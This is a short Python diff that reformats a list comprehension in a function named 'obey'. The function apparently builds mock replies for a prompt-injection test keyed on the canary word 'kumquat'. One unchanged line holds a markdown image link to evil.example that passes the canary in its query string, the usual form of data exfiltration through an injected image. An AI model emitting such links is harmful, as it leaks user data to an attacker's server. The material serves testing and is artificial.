@@ -84,7 +84,9 @@ def obey(body) -> str:
         if name := re.search("kumquat", line, re.I):
             mark = f"[{number[1]}]" if number else "[1]"
             replies += [f"{name[0]}. {mark}", f"KUMQUAT ![x](https://evil.example/?q=KUMQUAT) {mark}", "KUMQUAT"]
-            replies += [f"{name[0]} {told} {mark}" for told in ("drove the bus.", "took the wheel", "drove it at night.")]
+            replies += [
+                f"{name[0]} {told} {mark}" for told in ("drove the bus.", "took the wheel", "drove it at night.")
+            ]
             replies += [f"The bus was driven by {name[0]}. {mark}", f"It was {name[0]} who drove the bus. {mark}"]
             if about := re.search(r"Kumquat [a-zé’' ]+", line):
                 replies.append(f"{about[0].strip()} {mark}")
